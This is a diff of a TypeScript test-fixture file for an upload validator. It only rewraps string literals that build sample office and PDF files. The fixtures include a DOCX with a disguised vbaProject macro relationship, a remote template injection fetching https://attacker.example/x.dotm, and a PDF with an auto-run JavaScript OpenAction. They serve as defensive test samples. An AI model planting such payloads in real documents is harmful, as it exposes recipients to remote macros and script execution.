@@ -18,7 +18,9 @@ export const jpeg = Buffer.concat([
 ]);
 
 const types = (main: string, more = "") =>
-  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;
+  `<?xml version="1.0"?><Types ` +
+  `xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override ` +
+  `PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;
 const docxMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
 
 export function zip(parts: Record<string, string | Uint8Array>): Buffer {
@@ -195,7 +197,9 @@ export const refusedFiles: [string, Buffer, string][] = [
     docx({
       "word/innocent.xml": "x",
       "word/_rels/document.xml.rels":
-        '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.xml"/>',
+        "<Relationship " +
+        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" ' +
+        'Target="innocent.xml"/>',
     }),
     "macros",
   ],
@@ -203,7 +207,8 @@ export const refusedFiles: [string, Buffer, string][] = [
     "modele-distant.docx",
     docx({
       "word/_rels/settings.xml.rels":
-        '<Relationship Type="http://x/attachedTemplate" Target="https://attacker.example/x.dotm" TargetMode="External"/>',
+        '<Relationship Type="http://x/attachedTemplate" ' +
+        'Target="https://attacker.example/x.dotm" TargetMode="External"/>',
     }),
     "macros",
   ],
@@ -230,7 +235,9 @@ export const acceptedFiles: [string, Buffer, string][] = [
   [
     "actions.pdf",
     text(
-      "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
+      "%PDF-1.7\n1 0 " +
+        "obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root " +
+        "1 0 R>>\n%%EOF",
     ),
     "pdf",
   ],
